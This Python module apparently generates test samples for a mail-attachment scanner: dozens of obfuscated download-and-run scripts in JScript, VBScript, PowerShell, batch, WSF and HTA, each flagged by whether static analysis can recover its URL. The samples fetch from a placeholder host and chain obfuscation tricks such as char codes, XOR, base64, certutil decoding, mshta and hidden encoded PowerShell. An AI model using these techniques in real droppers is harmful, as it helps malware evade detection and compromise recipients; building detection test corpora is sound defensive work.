"""Scripts that fetch and run, in the disguises that mails bring: (id, name, bytes, folds).

folds: their words and their URL can be had without running anything; of the
others only the disguise itself can be told.
"""
from .disguise import (BAT, JS, PS, VBS, b64, b64w, cut, hexed, lines, name, packed, plus, pq, q, rnd, screnc, vq)

JUNK = ("The quarterly report lists the results of all branches and the plan for the next year",
        "Please keep this notice with the invoice until the payment has been confirmed",
        "All prices are given without tax and are valid until the end of the month")


def js():
    yield "js_plus", "eval(" + plus(JS) + ");", True
    t = name()
    yield "js_hex", "var %s=this[%s];var x=new %s(%s),s=new %s(%s);x[%s](%s,%s);s[%s](%s,0);" % (
        t, hexed("ActiveXObject"), t, hexed("MSXML2.XMLHTTP"), t, hexed("WScript.Shell"), hexed("open"), hexed("GET"),
        hexed("http://files.example/in/a.bin"), hexed("Run"), hexed("nothing.tmp")), True
    yield "js_unicode", "eval(\"" + "".join("\\u%04x" % ord(c) for c in JS) + "\");", True
    yield "js_codes", "eval(String.fromCharCode(" + ",".join(str(ord(c)) for c in JS) + "));", True
    yield "js_codes_sums", "eval(String.fromCharCode(" + ",".join(
        "%d%+d" % (ord(c) - d, d) for c, d in ((c, rnd.randint(-40, 30)) for c in JS)) + "));", True
    yield "js_join", "eval([" + ",".join(q(p, "'") for p in cut(JS, 2, 6)) + "].join(''));", True
    yield "js_split", "eval(" + q("QzK".join(cut(JS))) + ".split('QzK').join(''));", True
    yield "js_reverse", "var r=" + q(JS[::-1]) + ";eval(r.split('').reverse().join(''));", True
    yield "js_replace", "eval(" + q("".join(c + "#~" if i % 2 else c for i, c in enumerate(JS))) + ".replace(/#~/g,''));", True
    yield "js_unescape", "eval(unescape('" + "".join("%%%02x" % ord(c) for c in JS) + "'));", True
    yield "js_packed", packed(JS), True
    words = ["ActiveXObject", "MSXML2.XMLHTTP", "open", "GET", "http://files.example/in/a.bin", "WScript.Shell", "Run", "nothing.tmp"]
    order = list(range(len(words)))
    rnd.shuffle(order)
    t = "_0x%04x" % rnd.randint(4096, 65535)
    at = {w: "%s[%d]" % (t, order.index(i)) for i, w in enumerate(words)}
    yield "js_table", "var %s=[%s];var a=new this[%s](%s),b=new this[%s](%s);a[%s](%s,%s,false);b[%s](%s,0);" % (
        t, ",".join(hexed(words[i]) for i in order), at["ActiveXObject"], at["MSXML2.XMLHTTP"], at["ActiveXObject"],
        at["WScript.Shell"], at["open"], at["GET"], at["http://files.example/in/a.bin"], at["Run"], at["nothing.tmp"]), True
    yield "js_comments", JS.replace('"MSXML2.XMLHTTP"', '"MSX"/*%s*/+/*%s*/"ML2.XM"/*%s*/+"LHTTP"' % JUNK).replace(
        '"WScript.Shell"', '"WSc"+/*%s*/"ript.Sh"+ // %s\n"ell"' % JUNK[:2]), True
    yield "js_shifted", ("var n=[" + ",".join(str(ord(c) + 7) for c in JS) +
                         "],t='';for(var i=0;i<n.length;i++)t+=String.fromCharCode(n[i]-7);eval(t);"), False
    yield "js_xor", ("var d=" + q("".join("%02x" % (ord(c) ^ 0x5a) for c in JS)) +
                     ",o='';for(var i=0;i<d.length;i+=2)o+=String.fromCharCode(parseInt(d.substr(i,2),16)^90);eval(o);"), False
    t = name()
    yield "js_accumulate", "var %s='';\n" % t + "".join("%s+=%s;\n" % (t, q(p, "'")) for p in cut(JS, 1, 4)) + "eval(%s);\n" % t, True
    parts = [(name(), p) for p in cut("MSXML2.XMLHTTP", 2, 4)]
    more = [(name(), p) for p in cut("WScript.Shell", 2, 4)]
    yield "js_functions", "".join("function %s(){return %s}\n" % (n, q(p)) for n, p in parts + more) + (
        "var x=new ActiveXObject(%s);x['op'+'en']('G'+'ET','htt'+'p://fi'+'les.exa'+'mple/in/a.b'+'in');\n"
        "var s=new ActiveXObject(%s);s['R'+'un']('noth'+'ing.tmp',0);\n" % (
            "+".join(n + "()" for n, _ in parts), "+".join(n + "()" for n, _ in more))), True
    yield "js_brackets", ("var w=WScript['Cre'+'ateObj'+'ect'];var h=w('MSXML2'+'.X'+'MLH'+'TTP');h['op'+'en']('GE'+'T','ht'+'tp:'+'//fil'+"
                          "'es.example/in/a.'+'bin',0);w('WSc'+'ript.Sh'+'ell')['Ru'+'n']('no'+'thing.t'+'mp',0);"), True
    yield "js_prose", "".join("// %s\n%s\n" % (JUNK[i % 3], s) for i, s in enumerate(
        ["var a%d=%s;" % (i, q(p)) for i, p in enumerate(cut(JS, 3, 6))])) + "eval(" + "+".join(
        "a%d" % i for i in range(len(cut(JS, 3, 3)))) + ");\n", False
    yield "js_tags", ("var k='%s';var f=k.split('|');var x=new ActiveXObject(f[2]+f[0]+f[1]);x.open('GET',f[3]+f[4]);"
                      "new ActiveXObject(f[5]+f[6]).Run(f[7],0);" % "|".join(
                          ["L2.XML", "HTTP", "MSXM", "http://files", ".example/in/a.bin", "WScript", ".Shell", "nothing.tmp"])), True
    yield "js_charat", ("var a='MXSL2.HTPWcripthe lg:/f';" + "var n=" + "+".join("a.charAt(%d)" % "MXSL2.HTPWcripthe lg:/f".index(c)
                        for c in "WScript") + "+'.Sh'+'ell';new ActiveXObject(n).Run('nothing.tmp',0);"
                        "new ActiveXObject('MSXML2'+'.XMLHTTP').open('GET','http://files.example/in/a.bin');"), True


def vbs():
    yield "vbs_chr", "Execute(" + " & ".join("Chr(%d)" % ord(c) for c in VBS) + ")\r\n", True
    yield "vbs_chr_sums", "Execute(" + " & ".join("ChrW(%d-%d)" % (ord(c) + d, d) for c, d in (
        (c, rnd.randint(1, 99)) for c in VBS)) + ")\r\n", True
    yield "vbs_reverse", "Execute StrReverse(%s)\r\n" % vq(VBS.replace("\r\n", ":").rstrip(":")[::-1]), True
    yield "vbs_replace", "x = Replace(%s, \"Zq9\", \"\")\r\nExecute x\r\n" % vq(
        "Zq9".join(cut(VBS.replace("\r\n", ":").rstrip(":"), 2, 4))), True
    t = [name() for _ in range(3)]
    yield "vbs_continued", "%s = %s\r\nExecute %s\r\n" % (t[0], " & _\r\n    ".join(
        vq(p) for p in cut(VBS.replace("\r\n", ":").rstrip(":"), 2, 6)), t[0]), True
    yield "vbs_hex_loop", ("d = %s\r\nFor i = 1 To Len(d) Step 2\r\n  o = o & Chr(CLng(\"&H\" & Mid(d, i, 2)))\r\nNext\r\nExecute o\r\n"
                           % vq(VBS.encode().hex())), False
    yield "vbs_numbers", ("a = Split(\"%s\", \".\")\r\nFor Each c In a\r\n  o = o & Chr(c)\r\nNext\r\nExecuteGlobal o\r\n"
                          % ".".join(str(ord(c)) for c in VBS)), False
    yield "vbs_join", "Execute Join(Array(%s), \"\")\r\n" % ", ".join(vq(p) for p in cut(VBS.replace("\r\n", ":").rstrip(":"), 2, 5)), True
    yield "vbs_accumulate", "".join("%s = %s & %s\r\n" % (t[1], t[1], vq(p)) for p in cut(
        VBS.replace("\r\n", ":").rstrip(":"), 2, 5)) + "Execute %s\r\n" % t[1], True
    yield "vbs_mid", ("k = \"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.\"\r\nSet s = CreateObject(%s)\r\n"
                      "Set h = CreateObject(%s)\r\nh.Open \"GET\", \"http://files.example/in/a.bin\"\r\ns.Run \"nothing.tmp\", 0\r\n" % tuple(
                          " & ".join("Mid(k, %d, 1)" % (1 + "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.".index(c))
                                     for c in w) for w in ("WScript.Shell", "MSXML2.XMLHTTP"))), True


def powershell():
    yield "ps_ticks", "$u='http://files.example/in/a.ps1';i`E`x (n`Ew-oBj`e`Ct N`et.`W`eBcl`iEnt).\"D`owN`Loa`dST`Ring\"", True
    p = cut(PS, 3, 6)
    order = list(range(len(p)))
    rnd.shuffle(order)
    yield "ps_format", "&('{1}{0}'-f'x','ie')(\"%s\"-f%s)" % (
        "".join("{%d}" % order.index(i) for i in range(len(p))), ",".join(pq(p[i]) for i in order)), True
    yield "ps_char_join", "iex (-join[char[]](%s))" % ",".join(str(ord(c)) for c in PS), True
    yield "ps_char_pipe", "(%s|%%{[char]$_}) -join ''|iex" % ",".join(str(ord(c)) for c in PS), True
    yield "ps_replace", "(%s -replace 'Zq9','')|.('i'+'ex')" % pq("Zq9".join(cut(PS, 3, 5))), True
    yield "ps_reverse", "$s=%s;iex ($s[-1..-($s.Length)] -join '')" % pq(PS[::-1]), True
    yield "ps_base64", "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(%s)))" % pq(b64(PS)), True
    yield "ps_comspec", "(%s)|&($eNv:CoMSpEC[4,24,25]-jOin'')" % plus(PS, pq), True
    yield "ps_placeholders", "&($psHOme[21]+$pshome[30]+'x')(%s.REPlAcE('k9Q',[sTRinG][CHAr]39).(\"{1}{0}\"-f'lace','rep')('Zw1',[char]36))" % pq(
        PS.replace("'", "k9Q").replace("$", "Zw1")), True
    yield "ps_variables", "$a='Net.';$b='Web'+'Cli';$c='ent';$d=$a+$b+$c;$e='Downl'+'oadStr'+'ing';$u='http://files'+'.example/in/a.ps1';" \
        "&('I'+'EX') (&('New'+'-Object') $d).$e", True
    yield "ps_split", "iex (%s.split('~') -join '')" % pq("~".join(cut(PS, 2, 5))), True


def batch():
    yield "bat_carets", "@echo off\r\n" + "".join("^".join(w) if i % 2 == 0 else w for i, w in enumerate(
        x for line in BAT.splitlines(True) for x in _words(line))), True
    table = {c: name(3) for c in sorted(set(BAT)) if c.isalnum()}
    yield "bat_letters", "@echo off\r\n" + "".join("set %s=%s\r\n" % (n, c) for c, n in table.items()) + "".join(
        "%" + table[c] + "%" if c in table else c for c in BAT), True
    chars = sorted(set(c for c in BAT if c.isalnum()))
    rnd.shuffle(chars)
    alphabet = "".join(chars)
    yield "bat_substrings", "@echo off\r\nset k=%s\r\n" % alphabet + "".join(
        "%%k:~%d,1%%" % alphabet.index(c) if c in alphabet else c for c in BAT), True
    yield "bat_replace", "@echo off\r\nset x=%s\r\n%%x:Zq9=%%\r\n" % "Zq9".join(cut(BAT.splitlines()[0], 2, 4)) + "start nothing.tmp\r\n", True
    yield "bat_encoded", "@echo off\r\npowershell -nop -w hidden -e %s\r\n" % b64w(PS), True
    yield "bat_encoded_pieces", "@echo off\r\nset a=po^we\r\nset b=rsh\r\nset c=ell\r\nset d=%s\r\n%%a%%%%b%%%%c%% -w hid^den -enc %%d%%\r\n" % b64w(PS), True
    yield "bat_js", "@if (@a)==(@b) @end /*\r\n@echo off\r\ncscript //nologo //e:jscript \"%~f0\"\r\nexit /b\r\n*/\r\neval(" + plus(JS) + ");\r\n", True
    yield "bat_ps", "<# :\r\n@echo off\r\npowershell -nop -c \"iex (gc '%~f0' -raw)\"\r\nexit /b\r\n#>\r\n(" + plus(PS, pq) + ")|iex\r\n", True
    yield "bat_certutil", "@echo off\r\n" + "".join("echo %s>>%%TEMP%%\\a.txt\r\n" % x for x in [
        "-----BEGIN CERTIFICATE-----"] + lines(b64(VBS)) + ["-----END CERTIFICATE-----"]) + \
        "certutil -decode %TEMP%\\a.txt %TEMP%\\a.vbs\r\nwscript %TEMP%\\a.vbs\r\n", True


def _words(line):
    import re
    return re.findall(r"[a-z]+|[^a-z]+", line)


def pages():
    yield "wsf_two", "wsf", ("<package><job id=\"a\"><script language=\"JScript\">\nfunction n(){return 'MSX'+'ML2.X'+'MLHT'+'TP';}\n</script>"
                             "<script language=\"VBScript\">\nSet h = CreateObject(n())\nh.Open \"G\" & \"ET\", \"http://files\" & \".example/in/a.bin\"\n"
                             "Set s = CreateObject(\"WSc\" & \"ript.Sh\" & \"ell\")\ns.Run \"nothing.tmp\", 0\n</script></job></package>"), True
    yield "wsf_encoded", "wsf", "<job><script language=\"JScript.Encode\">" + screnc(JS)[:-1] + "</script></job>", True
    yield "hta_unescape", "hta", "<html><head><hta:application id=\"a\"/></head><script>document.write(unescape('" + "".join(
        "%%%02x" % ord(c) for c in "<script>" + JS + "</script>") + "'));</script></html>", True
    yield "hta_encoded_ps", "hta", ("<html><script language=\"VBScript\">\nSet s = CreateObject(\"WScript.Shell\")\n"
                                    "s.Run \"powershell -w hidden -enc %s\", 0\nself.close\n</script></html>" % b64w(PS)), True
    yield "hta_atob", "hta", "<html><hta:application/><script>eval(atob('" + b64(JS) + "'));</script></html>", True
    yield "hta_vbe", "hta", "<html><script language='VBScript.Encode'>" + screnc(VBS)[:-1] + "</script></html>", True


def later_js():
    """Written when the code was there, before it had seen them."""
    a = name()
    yield "js_own_method", "var %s=%s;%s=%s.split('').reverse().join('');eval(%s);" % (a, q(JS[::-1]), a, a, a), True
    yield "js_function", "new Function(" + plus(JS) + ")();", True
    table = cut(JS, 3, 7)
    yield "js_accessor", ("var t=[%s];function g(i){return t[i-5];}eval(%s);" % (
        ",".join(q(x) for x in table), "+".join("g(%d)" % (i + 5) for i in range(len(table))))), False
    yield "js_parse_int", ("var s='%s',o='';s.replace(/../g,function(x){o+=String.fromCharCode(parseInt(x,16));});this['ev'+'al'](o);"
                           % JS.encode().hex()), False
    yield "js_lines", "var s='';\n" + "".join("s=s+%s;\n" % q(x, "'") for x in cut(JS, 4, 9)) + "(new Function(s))();\n", True


def later_vbs():
    yield "vbs_array_loop", ("a = Array(%s)\r\nFor i = 0 To UBound(a)\r\n  s = s & Chr(a(i) - 3)\r\nNext\r\nExecuteGlobal s\r\n"
                             % ",".join(str(ord(c) + 3) for c in VBS)), False
    yield "vbs_function", ("Function d(x)\r\n  d = StrReverse(x)\r\nEnd Function\r\nExecute d(%s)\r\n"
                           % vq(VBS.replace("\r\n", ":").rstrip(":")[::-1])), False
    yield "vbs_chained", ("x = \"%s\"\r\nx = Replace(x, \"^\", \"\")\r\nExecute Replace(x, \"`\", Chr(34))\r\n"
                          % "^".join(cut(VBS.replace("\r\n", ":").rstrip(":").replace('"', "`"), 1, 3))), True


def later_ps():
    yield "ps_unicode", "$b=%s;iex ([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String($b)))" % pq(b64w(PS)), True
    yield "ps_bxor", ("$k=35;$d=@(%s);iex (-join ($d | %%{[char]($_ -bxor $k)}))" % ",".join(str(ord(c) ^ 35) for c in PS)), False
    yield "ps_scriptblock", "&([scriptblock]::Create((%s -replace '#','')))" % pq("#".join(cut(PS, 1, 3))), True
    yield "ps_env", "$env:x=%s;iex $env:x" % plus(PS, pq), True
    yield "ps_hex_split", ("iex (('%s' -split '-' | %%{[char][int]('0x'+$_)}) -join '')" % "-".join("%02x" % ord(c) for c in PS)), False


def later_bat():
    yield "bat_call", "@echo off\r\nset a=cert\r\nset b=util\r\ncall %%a%%%%b%% -url^cache -f http://files.example/in/a.bin\r\ncall st^art nothing.tmp\r\n".replace("%%", "%"), True
    yield "bat_mshta", ("@start /min mshta vbscript:Execute(\"%s\")(window.close)\r\n" % ("CreateObject(\"\"WScr\"\"+\"\"ipt.Shell\"\").Run "
                        "\"\"powershell -w hidden -e %s\"\",0" % b64w(PS))), True


def variants():
    out = []
    for make, end in ((js, "js"), (vbs, "vbs"), (powershell, "ps1"), (batch, "bat"), (later_js, "js"), (later_vbs, "vbs"),
                      (later_ps, "ps1"), (later_bat, "bat")):
        for ident, text, folds in make():
            out.append((ident, ident + "." + end, text.encode(), folds))
    for ident, end, text, folds in pages():
        out.append((ident, ident + "." + end, text.encode(), folds))
    out.append(("jse", "jse.jse", screnc(JS).encode("latin-1"), True))
    out.append(("vbe", "vbe.vbe", screnc(VBS).encode("latin-1"), True))
    out.append(("js_wide", "js_wide.js", b"\xff\xfe" + ("eval(" + plus(JS) + ");").encode("utf-16-le"), True))
    out.append(("vbs_japanese", "vbs_japanese.vbs", ("' 帳票を印刷します\r\nExecute " + plus(
        VBS.replace("\r\n", ":").rstrip(":"), vq, " & ") + " ' 以上\r\n").encode("cp932"), True))
    out.append(("js_japanese", "js_japanese.js", ("// 請求書の一覧\nvar 名=" + plus(JS) + ";/* 表示 */eval(名);\n").encode("euc-jp"), True))
    return out
